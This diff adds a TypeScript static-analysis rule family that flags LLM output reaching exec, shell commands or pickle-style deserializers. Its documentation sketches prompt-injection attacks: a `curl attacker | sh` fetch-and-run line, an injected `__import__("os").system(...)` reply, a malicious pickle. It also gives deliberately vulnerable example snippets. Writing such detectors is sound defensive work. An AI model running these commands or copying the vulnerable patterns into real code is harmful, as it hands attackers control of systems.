@@ -1,0 +1,126 @@
+/**
+ * AIS280-282: model output reaching code execution, a shell or a code-running deserializer, in Python
+ * and JS/TS. One taint pass per file (`shared/taint`) reports under the rule that matches the sink.
+ */
+import { defineRuleFamily, type AstContext, type RuleMeta } from '../../../engine/rule';
+import type { FlowStep } from '../../../engine/finding';
+import { analyzeTaint } from '../../shared/taint/engine';
+import type { SinkKind, TaintFinding } from '../../shared/taint/types';
+
+const FILE_KINDS = ['python', 'javascript', 'typescript', 'tsx'] as const;
+const REFERENCES_TAIL = [
+  'https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/',
+  'https://nvd.nist.gov/vuln/detail/CVE-2024-5565',
+  'https://nvd.nist.gov/vuln/detail/CVE-2025-1497',
+];
+const USE_INSTEAD_COMMON =
+  '# 1. Ask the model for data, not code, and parse it:\nargs = json.loads(reply)            # or ast.literal_eval for Python literals\n\n# 2. Dispatch through an allow-list of functions you wrote:\nACTIONS = {"summarize": summarize, "search": search}\nresult = ACTIONS[args["action"]](**args["params"])\n\n# 3. If generated code must run, run it in a sandbox (separate process or container,\n#    no network, resource limits) after a human confirmed it.\n';
+
+const CODE: RuleMeta = {
+  id: 'AIS280',
+  name: 'llm-output-code-execution',
+  title: 'LLM output executed as code',
+  category: 'code-execution',
+  fileKinds: FILE_KINDS,
+  severity: 'error',
+  confidence: 'high',
+  cwe: ['CWE-94', 'CWE-95'],
+  message: 'code returned by an LLM ({{source}}) reaches `{{sink}}`',
+  fixAvailability: 'none',
+  docs: {
+    whatItDoes: 'Follows the reply of an LLM call (OpenAI `chat.completions.create`/`responses.create`, Anthropic `messages.create`, LangChain `invoke`/`run`/`predict`, Ollama `chat`/`generate`, Hugging Face `pipeline(...)(prompt)`, `InferenceClient`, `tokenizer.decode`, LiteLLM, Gemini `generate_content`, the Vercel AI SDK `generateText`) through assignments, attribute and subscript reads, f-strings, `%`, `.format`, `+`, template literals, string methods, regex extraction, streaming loops, `await`, `.then` callbacks and small helpers in the same file, and reports when it reaches code execution: Python `exec`, `eval`, `compile`, `runpy`, `importlib.import_module`, `pandas.eval`/`DataFrame.query`, LangChain `PythonREPL().run`; JS `eval`, `new Function`, string timers, `vm.*`, dynamic `require`/`import()`. The finding carries the path from the model call to the sink.',
+    whyIsThisBad: 'Whatever the model returns is controlled by whoever controls any part of its input: the user, a retrieved web page, a document, an email or a tool result can carry a prompt injection that makes the model answer with `__import__("os").system(...)`. Executing the reply hands that person the process (CVE-2024-5565 in Vanna, CVE-2025-1497 in PlotAI). No peer tool tracks model output as a taint source.',
+    example: 'reply = client.chat.completions.create(model="gpt-4o", messages=messages)\ncode = reply.choices[0].message.content\nexec(code)\n',
+    useInstead: USE_INSTEAD_COMMON,
+    references: ['https://cwe.mitre.org/data/definitions/94.html', 'https://cwe.mitre.org/data/definitions/1426.html', ...REFERENCES_TAIL],
+  },
+};
+
+const COMMAND: RuleMeta = {
+  id: 'AIS281',
+  name: 'llm-output-command-execution',
+  title: 'LLM output run as a shell command',
+  category: 'code-execution',
+  fileKinds: FILE_KINDS,
+  severity: 'error',
+  confidence: 'high',
+  cwe: ['CWE-78'],
+  message: 'a command built from LLM output ({{source}}) reaches `{{sink}}`',
+  fixAvailability: 'none',
+  docs: {
+    whatItDoes: 'Follows LLM replies (the same sources and propagation as AIS280) into command execution: Python `os.system`, `os.popen`, `subprocess.*` (a string with `shell=True`, or the program of an argv list; other argv entries are a warning, and `shlex.quote` lowers the severity), `asyncio.create_subprocess_shell`/`_exec`, `os.exec*`, LangChain `ShellTool`/`BashProcess`; JS `child_process.exec`/`execSync`, `spawn`/`execFile` (program, `shell: true` arguments, `sh -c` code), `shelljs.exec`, `execa`.',
+    whyIsThisBad: 'An agent that runs the commands its model proposes gives a shell to anyone who can steer the model: a prompt injection in a web page, an issue, a file or a tool result turns into `curl attacker | sh` with the rights of the agent, its credentials and its network.',
+    example: 'const res = await openai.chat.completions.create({ model, messages });\nexecSync(res.choices[0].message.content);\n',
+    useInstead: '# Map model intents to commands you wrote, never run its text:\nCOMMANDS = {"list": ["ls", "-l"], "status": ["git", "status"]}\nargv = COMMANDS.get(intent)\nif argv is None:\n    raise ValueError(intent)\nsubprocess.run(argv, check=True)            # no shell\n# When free-form commands are the product, run them in a disposable sandbox after human approval.\n',
+    references: ['https://cwe.mitre.org/data/definitions/78.html', 'https://cwe.mitre.org/data/definitions/1426.html', ...REFERENCES_TAIL],
+  },
+};
+
+const DESERIALIZATION: RuleMeta = {
+  id: 'AIS282',
+  name: 'llm-output-deserialization',
+  title: 'LLM output deserialized with a code-running loader',
+  category: 'code-execution',
+  fileKinds: FILE_KINDS,
+  severity: 'error',
+  confidence: 'high',
+  cwe: ['CWE-502'],
+  message: 'data returned by an LLM ({{source}}) reaches `{{sink}}`, which runs code embedded in it',
+  fixAvailability: 'none',
+  docs: {
+    whatItDoes: 'Follows LLM replies (the same sources and propagation as AIS280) into deserializers that can run code: `pickle`/`dill`/`cloudpickle`/`marshal` loads, `jsonpickle.decode`, `yaml.unsafe_load`/`full_load`, `joblib.load`, `torch.load`, `numpy.load`, and JS `node-serialize` `unserialize` or `serialize-to-js` `deserialize`.',
+    whyIsThisBad: 'Models can be made to emit any bytes, for example a base64 pickle whose `__reduce__` calls `os.system`. Loading such output with a code-running deserializer executes it during the load.',
+    example: 'blob = llm.invoke(prompt).content\nstate = pickle.loads(base64.b64decode(blob))\n',
+    useInstead: 'state = json.loads(llm.invoke(prompt).content)   # plain data\nvalidate(state)                                    # check the shape before use\n',
+    references: ['https://cwe.mitre.org/data/definitions/502.html', 'https://cwe.mitre.org/data/definitions/1426.html', ...REFERENCES_TAIL],
+  },
+};
+
+const RULE_OF: Record<SinkKind, RuleMeta> = { code: CODE, command: COMMAND, deserialization: DESERIALIZATION };
+
+/**
+ * Prefilter: a file must mention an LLM SDK call shape. Sinks are checked by a second, cheap test in
+ * `onFile` before the file is analysed.
+ */
+const SOURCE_KEYWORDS = ['completions', 'messages', 'responses', 'invoke', 'ollama', 'pipeline', 'langchain', 'langgraph', 'llama_index', 'generateText', 'streamText', 'generate_content', 'generateContent', 'textGeneration', 'chatCompletion', 'text_generation', 'chat_completion', 'litellm', 'decode', 'cohere', 'predict', '.chat('];
+const SINK_HINT = /\b(?:exec|eval|compile|system|popen|subprocess|child_process|Function|vm|runInNewContext|runInContext|runInThisContext|Script|compileFunction|pickle|dill|marshal|jsonpickle|unsafe_load|full_load|joblib|torch|numpy|unserialize|deserialize|spawn|execFile|execa|shelljs|import_module|__import__|runpy|setTimeout|setInterval|setImmediate|require|import|PythonREPL|ShellTool|BashProcess|query)\b/;
+
+export default defineRuleFamily(
+  [CODE, COMMAND, DESERIALIZATION],
+  [
+    {
+      kind: 'ast',
+      name: 'llm-output-execution',
+      ruleIds: [CODE.id, COMMAND.id, DESERIALIZATION.id],
+      fileKinds: FILE_KINDS,
+      keywords: SOURCE_KEYWORDS,
+      onFile(ctx) {
+        if (!SINK_HINT.test(ctx.text)) return;
+        for (const finding of analyzeTaint(ctx)) report(ctx, finding);
+      },
+    },
+  ],
+);
+
+function report(ctx: AstContext, f: TaintFinding): void {
+  const rule = RULE_OF[f.match.kind];
+  const source = `\`${f.trace.sourceLabel}\`, line ${f.trace.sourceLine}`;
+  const quoted = f.match.kind === 'command' && f.trace.quoted;
+  const severity = quoted ? 'warning' : f.arg.severity;
+  const role = f.arg.why ? ` as ${f.arg.why}` : '';
+  const base = rule.message.replace('{{source}}', source).replace('{{sink}}', f.match.label);
+  const message = `${base}${role}${quoted ? ' (quoted with shlex.quote, which limits but does not remove the risk)' : ''}`;
+  const flow: FlowStep[] = [
+    ...f.trace.steps.map((s) => ({ range: ctx.rangeOfNode(s.node), message: s.message })),
+    { range: ctx.rangeOfNode(f.sink), message: `reaches \`${f.match.label}\`${role}` },
+  ];
+  ctx.report({
+    ruleId: rule.id,
+    range: ctx.rangeOfNode(f.sink),
+    message,
+    severity,
+    confidence: severity === 'warning' ? 'medium' : 'high',
+    flow,
+    properties: { source: f.trace.sourceLabel, sourceLine: f.trace.sourceLine, sink: f.match.label },
+  });
+}
